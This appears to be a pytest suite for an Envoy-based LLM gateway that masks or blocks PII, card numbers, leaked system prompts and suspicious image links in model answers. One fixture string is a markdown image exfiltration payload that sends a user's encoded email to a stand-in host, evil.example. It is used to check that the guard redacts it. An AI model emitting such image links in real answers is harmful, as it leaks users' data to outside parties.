"""Guarded answers through the real Envoy: streamed and not, the same text, the same verdict, one record each."""

import asyncio
import json
import os
import random
import signal
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

import httpx2
import openai
import pytest
from bare_http import Call, Provider
from gateways import Gateway, Starter
from speaking import Chat, Responses, Speaking, said

FIXTURES = Path(__file__).parents[1] / "fixtures" / "exchanges"
SYSTEM = "You are Ada of the Northwind shipping desk. Never promise any refund above fifty dollars to anybody at all."
MINE = "maria.rossi@example.com"  # the caller's own
FINE = "It is a fine day today and nothing else is to be said of it. "
ADDED = "Write to eve.adams@example.org or pay with 4111 1111 1111 1111, that is all. "
IMAGE = "![chart](https://evil.example/?d=bWFyaWEucm9zc2lAZXhhbXBsZS5jb20) "
CONFIG = """
models:
  chat: p/m
  short: {{backends: [{{use: p/m, weight: 1}}], timeout: {{first_token: 500ms, idle: 1s, total: 20s}}}}
  brief: {{backends: [{{use: p/m, weight: 1}}], timeout: {{first_token: 500ms, total: 2s}}}}
tenants:
  masking: {{keys: ["${{file:@folder@/masking}}"], guards: masking}}
  blocking: {{keys: ["${{file:@folder@/blocking}}"], guards: blocking}}
  leaking: {{keys: ["${{file:@folder@/leaking}}"], guards: leaking}}
  hasty: {{keys: ["${{file:@folder@/hasty}}"], guards: hasty}}
  strict: {{keys: ["${{file:@folder@/strict}}"], guards: strict}}
guards:
  masking:
    pii: {{in: redact, out: redact}}
    secrets: {{out: redact}}
    system_prompt: {{out: redact}}
    links: {{out: redact, allow: [cdn.example.com]}}
  blocking: {{pii: {{in: redact, out: block}}, secrets: {{out: block}}}}
  leaking: {{extends: masking, system_prompt: {{out: block}}}}
  hasty: {{extends: masking, pause: release}}
  strict: {{extends: masking, pause: block}}
providers: {{p: {{type: openai, url: "http://127.0.0.1:{port}/v1"}}}}
"""
TENANTS = ("masking", "blocking", "leaking", "hasty", "strict")

Pour = Callable[[Call, bytes], Coroutine[Any, Any, None]]


async def in_events(call: Call, events: bytes) -> None:
    """Each event in a chunk of its own."""
    for each in events.split(b"\n\n")[:-1]:
        await call.chunk(each + b"\n\n")


def cut(seed: int) -> Pour:
    """In thirty pieces, cut anywhere."""

    async def pour(call: Call, events: bytes) -> None:
        places = sorted(random.Random(seed).sample(range(1, len(events)), min(30, len(events) - 1)))
        for start, stop in zip([0, *places], [*places, len(events)], strict=True):
            await call.chunk(events[start:stop])
            await asyncio.sleep(0.001)

    return pour


APIS: dict[str, Speaking] = {"/v1" + api.path: api for api in (Chat(), Responses())}


def dear(api: Speaking, call: Call) -> str:
    """How every answer begins: with the caller's placeholder."""
    return f"Dear {api.asked(json.loads(call.body)).split()[-1]}: "


class Saying:
    """A provider that says `text` with the caller's placeholder before it, streamed or not, as it was asked to."""

    def __init__(self) -> None:
        self.text = ADDED
        self.raw: bytes | None = None  # instead of a stream that says `text`
        self.pour: Pour = in_events
        self.goes_on: Callable[[Call], Coroutine[Any, Any, None]] | None = None
        self.counts = True
        self.was_cut = False

    async def __call__(self, call: Call) -> None:
        api, asked = APIS[call.path], json.loads(call.body)
        text = dear(api, call) + self.text
        if not asked.get("stream"):
            await call.answer(200, json.dumps(api.whole(text)).encode())
            return
        events = api.begin() + said(api, text) if self.raw is None else self.raw
        if self.goes_on is None and self.raw is None:
            events += api.finish(text, self.counts and api.counts(asked))
        await call.begin(content_type="text/event-stream")
        try:
            await self.pour(call, events)
            if self.goes_on is not None:
                await self.goes_on(call)
            await call.end()
        except ConnectionError:
            self.was_cut = True
            raise


@pytest.fixture(scope="module")
def served(start_once: Starter) -> tuple[Saying, Provider]:
    saying = Saying()
    return saying, start_once.bare_provider(saying)


@pytest.fixture(scope="module")
def gateway(start_once: Starter, served: tuple[Saying, Provider]) -> Gateway:
    for tenant in TENANTS:
        start_once.file(tenant, key(tenant))
    return start_once.gateway(CONFIG.format(port=served[1].port))


@pytest.fixture
def provider(served: tuple[Saying, Provider]) -> Saying:
    """As new."""
    served[0].__init__()  # type: ignore[misc]
    return served[0]


def key(tenant: str) -> str:
    """Its API key."""
    return f"{tenant}-key-0123456789abcdef"


@pytest.fixture(params=APIS.values(), ids=["chat", "responses"])
def api(request: pytest.FixtureRequest) -> Speaking:
    """Each API in which the same must hold."""
    api: Speaking = request.param
    return api


def opened(gateway: Gateway, api: Speaking, tenant: str, **more: Any) -> Any:
    """A streamed call, to be read in a `with`."""
    headers = {"authorization": f"Bearer {key(tenant)}"}
    asking = api.asking(SYSTEM, f"I am {MINE}", stream=True, **more)
    return httpx2.stream("POST", gateway.base_url + api.path, json=asking, headers=headers, timeout=30)


def text_of(api: Speaking, raw: bytes) -> str:
    """What the events say."""
    return b"".join(api.contents(raw)).decode()


class Got:
    """What a caller got, through the official SDK, and what was recorded of it."""

    def __init__(self, gateway: Gateway, api: Speaking, tenant: str, stream: bool) -> None:
        with gateway.client(key(tenant)) as client:
            heard = api.hear(client, api.asking(SYSTEM, f"I am {MINE}", stream=stream))
        self.text, self.finish, self.identity = heard.text, heard.finish, heard.identity
        self.record = gateway.record(self.identity)
        self.found = {(f["kind"], f["type"]): f["count"] for f in self.record["findings"] if f["channel"] == "output"}


BOTH = pytest.mark.parametrize("stream", [True, False], ids=["streamed", "whole"])


@BOTH
def test_what_the_model_adds_is_masked_and_what_the_caller_sent_comes_back(
    gateway: Gateway, provider: Saying, api: Speaking, stream: bool
) -> None:
    """In deltas of three characters, and in one piece."""
    provider.text = ADDED + IMAGE + f"{SYSTEM} {FINE}"
    got = Got(gateway, api, "masking", stream)
    assert got.text.startswith(
        f"Dear {MINE}: Write to [EMAIL_ADDRESS] or pay with [CREDIT_CARD], that is all. ![chart]("
    )
    assert "![chart]([IMAGE]) [SYSTEM_PROMPT] It is" in got.text
    assert got.text.endswith(FINE)
    assert got.finish == ["stop"]
    assert got.found == {
        ("exfiltration", "image"): 1,
        ("leakage", "system-prompt"): 1,
        ("pii", "CREDIT_CARD"): 1,
        ("pii", "EMAIL_ADDRESS"): 1,
    }
    assert (got.record["outcome"], got.record["reason"], got.record["restored"]) == ("completed", "ok", 1)
    assert (got.record["usage"]["output_tokens"], got.record["usage"]["source"]) == (34, "provider")
    assert any(f["channel"] == "user" for f in got.record["findings"])


@BOTH
def test_a_blocked_answer_ends_as_a_filtered_one(
    gateway: Gateway, provider: Saying, api: Speaking, stream: bool
) -> None:
    """The same verdict; a stream keeps what came before, a whole answer has nothing in it."""
    provider.text = FINE + ADDED * 9
    got = Got(gateway, api, "blocking", stream)
    assert got.text == (f"Dear {MINE}: {FINE}Write " if stream else "")
    assert got.finish == ["content_filter"]
    assert got.found == {("pii", "EMAIL_ADDRESS"): 1}
    reason = "blocked_in_stream" if stream else "answer_blocked"
    assert (got.record["outcome"], got.record["reason"], got.record["status"]) == ("blocked", reason, 200)
    assert got.record["usage"]["source"] == ("estimated" if stream else "provider")
    assert got.record["usage"]["output_tokens"] > 10


def test_a_blocked_stream_is_complete_and_its_provider_cut_off(
    gateway: Gateway, provider: Saying, api: Speaking
) -> None:
    """The last bytes are the mark; nothing is read of a provider that goes on and on."""

    async def for_ever(call: Call) -> None:
        for _ in range(500):
            await call.chunk(api.piece("never"))
            await asyncio.sleep(0.02)

    provider.goes_on = for_ever
    provider.text = FINE + ADDED
    with opened(gateway, api, "blocking") as answer:
        raw = answer.read()
    assert b"content_filter" in b"".join(raw.split(b"\n\n")[-3:])
    assert b"never" not in raw
    gateway.wait_for(lambda: provider.was_cut)
    found = [each for each in gateway.records() if each["id"] == answer.headers["x-request-id"]]
    assert len(gateway.wait_for(lambda: found or [gateway.record(answer.headers["x-request-id"])])) == 1


@BOTH
def test_a_leaked_system_prompt_blocks(gateway: Gateway, provider: Saying, api: Speaking, stream: bool) -> None:
    """However it is set."""
    provider.text = FINE + "\n".join(SYSTEM.upper().split()) + FINE
    got = Got(gateway, api, "leaking", stream)
    assert "REFUND" not in got.text
    assert got.found == {("leakage", "system-prompt"): 1}
    assert got.record["outcome"] == "blocked"


@BOTH
def test_an_image_of_an_allowed_host_stays(gateway: Gateway, provider: Saying, api: Speaking, stream: bool) -> None:
    """With whatever it carries."""
    provider.text = IMAGE.replace("evil.example", "a.cdn.example.com")
    got = Got(gateway, api, "masking", stream)
    assert got.text == f"Dear {MINE}: {provider.text}"
    assert got.found == {}


@pytest.mark.parametrize("tenant", ["masking", "blocking"])
def test_cuts_change_nothing(gateway: Gateway, provider: Saying, api: Speaking, tenant: str) -> None:
    """Twenty ways to cut the same answer: the same bytes, and the text of the unstreamed one."""
    provider.text = FINE + ADDED + FINE
    got = set()
    for seed in range(20):
        provider.pour = cut(seed)
        with opened(gateway, api, tenant) as answer:
            got.add(answer.read())
    (only,) = got
    assert "eve" not in text_of(api, only)
    if tenant == "masking":
        assert text_of(api, only) == Got(gateway, api, tenant, False).text


@pytest.mark.parametrize("name", ["parallel_tools", "reasoning", "crlf_and_unknowns", "refusal"])
def test_recorded_exchanges_are_cut_anywhere(gateway: Gateway, provider: Saying, api: Speaking, name: str) -> None:
    """Tool calls, reasoning, unknown fields: twenty cuts, the same bytes."""
    provider.raw = (FIXTURES / f"{api.fixtures}{name}.sse").read_bytes()
    got = set()
    for seed in range(20):
        provider.pour = cut(seed)
        with opened(gateway, api, "masking") as answer:
            got.add(answer.read())
    assert len(got) == 1


def test_ordinary_text_is_not_held(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """Every word is there before the provider says the next but one."""
    seen: list[bytes] = []
    waiting = asyncio.Event()

    async def slowly(call: Call) -> None:
        for word in FINE.split():
            await call.chunk(api.piece(word + " "))
            await asyncio.sleep(0.02)
        waiting.set()
        await asyncio.sleep(0.5)
        await call.chunk(api.finish(dear(api, call) + FINE, True))

    provider.text, provider.goes_on = "", slowly
    with opened(gateway, api, "masking") as answer:
        for piece in answer.iter_raw():
            seen += api.contents(piece)
            if not b"".join(seen).endswith(FINE.split()[-1].encode() + b" ") and waiting.is_set():
                raise AssertionError("held until the end")
    assert b"".join(seen).decode() == f"Dear {MINE}: {FINE}"


def test_what_is_held_too_long_is_scanned_first(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """After two seconds, though the provider says nothing more."""

    async def wait(call: Call) -> None:
        await asyncio.sleep(3.5)
        whole = dear(api, call) + provider.text + " and so on"
        await call.chunk(said(api, " and so on") + api.finish(whole, True))

    provider.text, provider.goes_on = "ask eve.adams@example.org", wait
    with opened(gateway, api, "masking") as answer:
        texts = [text_of(api, piece) for piece in answer.iter_raw()]
    assert any(text.endswith("[EMAIL_ADDRESS]") for text in texts)
    assert "".join(texts) == f"Dear {MINE}: ask [EMAIL_ADDRESS] and so on"
    with opened(gateway, api, "blocking") as answer:
        raw = answer.read()
    assert b"content_filter" in raw
    assert "and so on" not in text_of(api, raw)
    assert gateway.record(answer.headers["x-request-id"])["reason"] == "blocked_in_stream"


@pytest.mark.parametrize(
    ("tenant", "before", "text", "reason"),
    [
        ("masking", "pay", "pay with [CREDIT_CARD] and so on", "ok"),
        ("hasty", "pay with 4111 1111 11", "pay with 4111 1111 11[CREDIT_CARD] and so on", "ok"),
        ("strict", "pay", "pay with ", "blocked_in_stream"),
    ],
)
def test_what_a_pause_within_a_value_means_is_the_tenants_to_say(
    gateway: Gateway, provider: Saying, api: Speaking, tenant: str, before: str, text: str, reason: str
) -> None:
    """After two seconds: held all the same, let go, or the end of the answer."""

    async def wait(call: Call) -> None:
        await asyncio.sleep(3.5)
        rest = "11 1111 and so on"
        await call.chunk(said(api, rest) + api.finish(dear(api, call) + provider.text + rest, True))

    provider.text, provider.goes_on = "pay with 4111 1111 11", wait
    with opened(gateway, api, tenant) as answer:
        texts = [text_of(api, piece) for piece in answer.iter_raw()]
    assert "".join(texts) == f"Dear {MINE}: {text}"
    early = "".join(texts[:-1])
    assert early.startswith(f"Dear {MINE}: {before}")
    assert tenant == "hasty" or "4" not in early
    record = gateway.record(answer.headers["x-request-id"])
    assert record["reason"] == reason
    held = [found for found in record["findings"] if found["kind"] == "held"]
    assert len(held) == (tenant == "strict")


def test_a_provider_without_usage_is_estimated(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """From what passed."""
    provider.counts, provider.text = False, FINE * 4
    got = Got(gateway, api, "masking", True)
    assert (got.record["outcome"], got.record["usage"]["source"]) == ("completed", "estimated")
    assert 50 < got.record["usage"]["output_tokens"] < 300


def test_a_hang_up_has_its_record(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """With an estimate of what was said."""

    async def for_ever(call: Call) -> None:
        for _ in range(400):
            await call.chunk(api.piece("word after word "))
            await asyncio.sleep(0.05)

    provider.goes_on = for_ever
    with opened(gateway, api, "masking") as answer:
        got = b""
        for piece in answer.iter_raw():
            got += piece
            if got.count(b"word after word") > 12:
                break
    record = gateway.record(answer.headers["x-request-id"])
    assert (record["outcome"], record["reason"], record["usage"]["source"]) == ("aborted", "client_gone", "estimated")
    assert record["usage"]["output_tokens"] > 20
    assert {f["type"] for f in record["findings"] if f["channel"] == "output"} == {"EMAIL_ADDRESS", "CREDIT_CARD"}
    gateway.wait_for(lambda: provider.was_cut)


def test_a_reset_lets_nothing_through_that_was_held(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """The answer breaks off."""

    async def reset(call: Call) -> None:
        await asyncio.sleep(0.3)
        call.reset()

    provider.text, provider.goes_on = FINE + "Write to eve.adams@exam", reset
    got = b""
    with pytest.raises(httpx2.RemoteProtocolError), opened(gateway, api, "masking") as answer:
        identity = answer.headers["x-request-id"]
        for piece in answer.iter_raw():
            got += piece
    assert text_of(api, got) == f"Dear {MINE}: {FINE}Write "
    record = gateway.record(identity)
    assert (record["outcome"], record["reason"], record["usage"]["source"]) == ("failed", "provider_reset", "estimated")


def test_a_processor_killed_in_mid_stream_lets_nothing_through(
    gateway: Gateway, provider: Saying, api: Speaking
) -> None:
    """The answer breaks off; not a byte of the provider's passes unread."""

    async def for_ever(call: Call) -> None:
        for _ in range(400):
            await in_events(call, said(api, ADDED, 7))
            await asyncio.sleep(0.01)

    provider.goes_on = for_ever
    got = b""
    with pytest.raises(httpx2.RemoteProtocolError), opened(gateway, api, "masking") as answer:
        identity = answer.headers["x-request-id"]
        for piece in answer.iter_raw():
            if len(got) < 20_000 <= len(got + piece):
                os.kill(gateway.running.supervisor.pids()["extproc-0"], signal.SIGKILL)
            got += piece
    whole = text_of(api, got[: got.rindex(b"\n\n") + 2])
    assert whole.count("[EMAIL_ADDRESS]") > 2
    assert "eve" not in whole
    assert "4111" not in whole
    assert gateway.record(identity)["outcome"] == "failed"
    gateway.wait_for(lambda: _answers(gateway, api))


def _answers(gateway: Gateway, api: Speaking) -> bool:
    """Whether a new processor serves."""
    with opened(gateway, api, "masking") as answer:
        return answer.status_code == 200


def test_a_provider_that_falls_silent_is_a_timeout(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """Of the model's idle time; what had passed is counted."""

    async def silent(call: Call) -> None:
        await asyncio.sleep(8)

    provider.text, provider.goes_on = FINE, silent
    with pytest.raises(httpx2.RemoteProtocolError), opened(gateway, api, "masking", model="short") as answer:
        identity = answer.headers["x-request-id"]
        answer.read()
    record = gateway.record(identity)
    assert (record["outcome"], record["reason"], record["usage"]["source"]) == (
        "failed",
        "provider_timeout",
        "estimated",
    )


def test_a_provider_that_never_ends_is_a_timeout(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """Of the model's time for the whole call, though something comes all the while."""

    async def on_and_on(call: Call) -> None:
        for _ in range(100):
            await call.chunk(b": still here\n\n")
            await asyncio.sleep(0.2)

    provider.text, provider.goes_on = FINE, on_and_on
    with pytest.raises(httpx2.RemoteProtocolError), opened(gateway, api, "masking", model="brief") as answer:
        identity = answer.headers["x-request-id"]
        answer.read()
    record = gateway.record(identity)
    assert (record["outcome"], record["reason"], record["usage"]["source"]) == (
        "failed",
        "provider_timeout",
        "estimated",
    )
    assert 1500 < record["duration_ms"] < 9000


@BOTH
def test_log_probabilities_are_refused(gateway: Gateway, provider: Saying, api: Speaking, stream: bool) -> None:
    """They would say the text a second time."""
    with gateway.client(key("masking")) as client, pytest.raises(openai.BadRequestError) as caught:
        api.hear(client, api.asking(SYSTEM, f"I am {MINE}", stream=stream, **api.logprobs))
    assert caught.value.code == ("logprobs_with_redaction" if stream else "logprobs_with_guard")


def test_what_was_found_is_counted(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """In the metrics' source, by channel: the records say `output`."""
    Got(gateway, api, "masking", True)
    channels = {f["channel"] for each in gateway.records() for f in each["findings"]}
    assert channels == {"user", "output"}


def test_nothing_found_is_written_down(gateway: Gateway, provider: Saying, api: Speaking) -> None:
    """Not in a record, and not in Envoy's file."""
    provider.text = ADDED + IMAGE + SYSTEM
    for stream in (True, False):
        Got(gateway, api, "masking", stream)
    written = b"".join(path.read_bytes() for path in gateway.places.records.parent.rglob("*.jsonl"))
    assert len(written) > 1000
    for secret in (b"eve.adams", b"4111 1111", b"evil.example", b"fifty dollars", b"maria.rossi"):
        assert secret not in written
